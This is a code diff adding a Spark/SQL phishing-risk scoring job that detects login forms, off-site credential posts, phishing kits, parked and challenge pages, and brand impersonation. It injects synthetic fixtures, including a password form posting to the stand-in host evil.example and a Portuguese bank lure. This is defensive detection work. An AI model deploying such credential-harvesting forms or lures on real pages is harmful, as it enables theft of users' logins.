@@ -8,6 +8,7 @@ from pyspark.sql import functions as F
 from ..functions import labels as L
 from ..functions import scores as S
 from ..operators import enrichment as E
+from ..operators import pages as G
 from ..operators import triage as T
 from . import views as V
 from .monitoring import _CODES_SQL, _POINTS_SQL, all_rules
@@ -258,3 +259,50 @@ def agg14(spark, d):
     health = domain_health(tool_result(spark, d)).groupBy(F.col("brand_domain_id").alias("brand")).agg(F.max(rank).alias("worst"))
     joined = buckets.join(cycles, "brand", "left").join(health, "brand", "left")
     return joined.select("brand", "immediate", "gaps", "watched", "cycle_day", F.greatest("threats", "active").alias("threats_detected"), V._pick(("unknown", "healthy", "warning", "critical"), F.coalesce("worst", F.lit(0))).alias("health"))
+
+
+# Pages as a server would send them: some with a form, parked, behind a challenge, or made by a kit.
+_EXTRA = {
+    1: '<form method=post action="http://evil.example/p"><input name=u><input type="password"></form><p>Please verify your login and password</p>', 2: "<p>This domain is for sale</p>", 3: "<p>Checking your browser</p>",
+    4: '<form action="/in"><input type=password></form>Banco do Brasil, clique aqui', 5: "<script>evilginx</script>nothing", 6: "<b>collectData(x)</b>",
+}
+
+
+def served(spark: SparkSession, d: str) -> DataFrame:
+    i = F.col("page_id") % 9
+    extra = F.lit("")
+    for n, html in _EXTRA.items():
+        extra = F.when(i == n, html).otherwise(extra)
+    url = F.when(F.col("page_id") % 13 == 0, F.concat("url", F.lit("/gate.php"))).otherwise(F.col("url"))
+    return V.table(spark, d, "pages").select(
+        "page_id", F.coalesce(G.host_of(F.col("url")), F.lit("")).alias("target"), url.alias("final_url"), F.when(F.col("page_id") % 17 != 0, F.concat(F.coalesce("html", F.lit("")), extra)).alias("html"),
+        V._pick((200, 200, 403, 200, 503), F.col("page_id") % 5).alias("status"), F.when(F.col("page_id") % 11 == 0, "DDoS-Guard").alias("server"),
+    )
+
+
+def _any_sql(texts: list[str], phrases: tuple[str, ...]) -> str:
+    return "(" + " OR ".join(f"contains({t}, '{p}')" for t in texts for p in phrases) + ")"
+
+
+_EXTRA_SQL = "CASE page_id % 9 " + " ".join(f"WHEN {n} THEN '{h}'" for n, h in _EXTRA.items()) + " ELSE '' END"
+_H = "coalesce(html, '')"
+_SERVED_SQL = f"""sv AS (SELECT page_id, regexp_extract(lower(coalesce(url, '')), '^[a-z][a-z0-9+.-]*://([^/:?#]+)', 1) AS target, lower(CASE WHEN page_id % 13 = 0 THEN url || '/gate.php' ELSE coalesce(url, '') END) AS u, CASE WHEN page_id % 17 <> 0 THEN coalesce(html, '') || {_EXTRA_SQL} END AS html,
+  ([200, 200, 403, 200, 503])[page_id % 5 + 1] AS status, CASE WHEN page_id % 11 = 0 THEN 'ddos-guard' ELSE '' END AS server FROM pages),
+p0 AS (SELECT *, lower(trim(regexp_extract({_H}, '(?is)<title[^>]*>(.*?)</title>', 1))) AS title, lower(trim(regexp_replace(regexp_replace(regexp_replace(regexp_replace({_H}, '(?is)<script[^>]*>.*?</script>', ' ', 'g'), '(?is)<style[^>]*>.*?</style>', ' ', 'g'), '<[^>]*>', ' ', 'g'), '\\s+', ' ', 'g'))) AS body,
+  len(regexp_extract_all({_H}, '(?i)<input[^>]*type=["'']?password')) AS passwords, list_filter(regexp_extract_all({_H}, '(?is)<form[\\s>].*?</form>'), lambda f: regexp_matches(f, '(?i)<input[^>]*type=["'']?password')) AS logins,
+  len(list_filter(regexp_extract_all({_H}, '(?i)<(?:script|link|img)\\s[^>]*?(?:src|href)\\s*=\\s*["'']?(http[^"''\\s>]*)', 1), lambda x: NOT contains(x, target))) AS external_count FROM sv),
+p1 AS (SELECT *, {_any_sql(['title', 'u', 'body'], G.PARKED)} AS parked, {_any_sql(['title', 'u', 'body', 'server'], G.CHALLENGE)} OR status IN (401, 403, 429, 503) AS guarded, {' + '.join(f"CAST(contains(body, '{t}') AS INTEGER)" for t in G.CREDENTIAL_TERMS)} AS terms, {_any_sql(['body'], G.URGENCY_TERMS)} AS urgent,
+  {_any_sql(["regexp_extract(u, '^[a-z][a-z0-9+.-]*://[^/?#]*([^?#]*)', 1)"], G.KIT_PATHS)} OR {_any_sql(['body'], G.KIT_PHRASES)} AS kit, len(list_filter(logins, lambda f: regexp_extract(f, '(?is)^<form[^>]*?action\\s*=\\s*["'']?([^"''\\s>]*)', 1) <> '' AND NOT starts_with(regexp_extract(f, '(?is)^<form[^>]*?action\\s*=\\s*["'']?([^"''\\s>]*)', 1), '/'))) AS posts,
+  list_filter([{', '.join(f"regexp_extract(title || ' ' || body, '{b}', 0)" for b in G.BRANDS)}], lambda b: b <> '') AS brands FROM p0),
+p2 AS (SELECT *, list_filter(list_concat(list_concat([CASE WHEN parked THEN 'parked_domain:low' END, CASE WHEN guarded THEN 'protected_page:medium' END, CASE WHEN contains(server, 'ddos-guard') THEN 'infrastructure_masking:medium' END, CASE WHEN passwords > 0 THEN 'credential_harvesting:high' END],
+  list_transform(range(posts), lambda i: 'credential_harvesting:critical')), [CASE WHEN terms >= 3 THEN 'credential_harvesting:medium' END, CASE WHEN urgent THEN 'social_engineering:medium' END,
+  CASE WHEN (passwords > 0 OR urgent) AND len(list_filter(brands, lambda b: NOT contains(coalesce(string_split(target, '.')[-2], ''), b))) > 0 THEN 'brand_impersonation:high' END, CASE WHEN kit THEN 'phishing_kit_infrastructure:high' END, CASE WHEN external_count > 20 THEN 'resource_loading:low' END]), lambda x: x IS NOT NULL AND html IS NOT NULL) AS found FROM p1),
+p3 AS (SELECT *, least(100, list_sum(list_transform(list_concat(['x:none'], found), lambda x: CASE string_split(x, ':')[2] WHEN 'critical' THEN 40 WHEN 'high' THEN 25 WHEN 'medium' THEN 15 WHEN 'low' THEN 5 ELSE 0 END))) / CAST(100.0 AS DOUBLE) AS score, CASE WHEN html IS NULL THEN 'unreachable' WHEN parked THEN 'parked' WHEN guarded THEN 'challenge' ELSE 'live' END AS disposition FROM p2)"""
+
+
+@query("JOB12_page_risk_whole", f"""WITH {_SERVED_SQL} SELECT page_id, disposition, array_to_string(found, ',') AS signals, score, CASE WHEN html IS NULL THEN 'inconclusive' WHEN score >= 0.7 THEN 'critical' WHEN score >= 0.5 THEN 'high' WHEN score >= 0.3 THEN 'medium' WHEN score > 0 THEN 'low' WHEN disposition = 'challenge' THEN 'protected' ELSE 'safe' END AS level,
+  html IS NOT NULL AND len(logins) > 0 AS has_login_form, html IS NOT NULL AND passwords > 0 AS has_credential_inputs, html IS NOT NULL AND kit AS has_phishing_kit, CAST(CASE WHEN html IS NULL THEN 0 ELSE external_count END AS INTEGER) AS external_count,
+  CASE WHEN html IS NULL THEN 0.0 WHEN disposition = 'challenge' THEN CAST(0.45 AS DOUBLE) ELSE CAST(0.85 AS DOUBLE) END AS confidence, CASE WHEN html IS NULL THEN 'inconclusive' WHEN disposition = 'challenge' THEN 'degraded' ELSE 'complete' END AS data_quality FROM p3""")
+def job12_whole(spark, d):
+    p = G.page_signals(served(spark, d))
+    return p.withColumn("signals", F.array_join(F.transform("signals", lambda s: F.concat_ws(":", s["category"], s["severity"])), ","))
